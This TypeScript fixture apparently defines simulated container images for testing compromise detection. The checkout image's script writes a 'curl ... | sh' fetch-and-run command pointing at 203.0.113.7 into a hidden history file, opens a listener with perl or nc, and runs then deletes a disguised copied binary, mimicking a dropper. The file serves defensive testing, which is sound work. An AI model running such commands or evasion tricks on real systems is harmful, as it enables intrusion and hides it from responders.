import type { Image } from '../runtime/image.ts';

/** Opens a listening socket and a connection to itself with whatever the userland has, and keeps both. */
const HOLD_SOCKET = `if command -v perl >/dev/null; then
  perl -MIO::Socket::INET -e '
    my $l = IO::Socket::INET->new(Listen => 4, LocalAddr => "127.0.0.1", LocalPort => 8080) or exit 1;
    my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => 8080); my $s = $l->accept; sleep' &
elif command -v nc >/dev/null; then nc -l -p 8080 </dev/null >/dev/null 2>&1 &
fi`;

/** A program that is running although its file is gone, as a dropper leaves it. */
const DELETED_PROGRAM = `cp "$(command -v sleep)" /tmp/.cache-sync
/tmp/.cache-sync 86400 &
sleep 0.1
rm /tmp/.cache-sync`;

const CHECKOUT = `#!/bin/sh
echo "checkout: starting, version 4.2.1"
mkdir -p /var/lib/checkout
echo '{"orders":2}' > /var/lib/checkout/state.json
echo 'curl -s http://203.0.113.7/p.sh | sh' > /tmp/.history
${HOLD_SOCKET}
${DELETED_PROGRAM}
echo "checkout: listening on 127.0.0.1:8080"
echo "checkout: warning: unexpected outbound connection to 203.0.113.7:4444" >&2
wait
exec sleep 86400
`;

const program = (content: string) => ({ content, mode: 0o755 });

/** The images that the default world's pods run. Tests add their own. */
export const DEFAULT_IMAGES = {
  'registry.example/payments/checkout:4.2.1': {
    userland: 'host',
    entrypoint: ['/bin/sh', '/app/checkout'],
    workingDir: '/app',
    files: {
      '/app/checkout': program(CHECKOUT),
      '/app/config.yml': { content: 'currency: EUR\nfeatures: [express]\n' },
      '/app/public/index.html': { content: '<h1>Checkout</h1>\n' },
    },
    logWithoutProcesses: ['checkout: starting, version 4.2.1', 'checkout: listening on 127.0.0.1:8080'],
  },
  'registry.example/tools/proxy:1.9': {
    userland: 'host',
    entrypoint: ['/bin/sh', '-c', 'echo "proxy: ready"; exec sleep 86400'],
    logWithoutProcesses: ['proxy: ready'],
  },
  'registry.example/tools/busybox:1.38': {
    userland: 'busybox',
    entrypoint: ['sh', '-c', 'echo "worker: ready"; exec sleep 86400'],
    logWithoutProcesses: ['worker: ready'],
  },
  'registry.example/payments/ledger:2.0-distroless': {
    userland: 'none',
    entrypoint: ['/app/ledger', '86400'],
    copies: { '/app/ledger': 'sleep' },
  },
} as const satisfies Readonly<Record<string, Image>>;
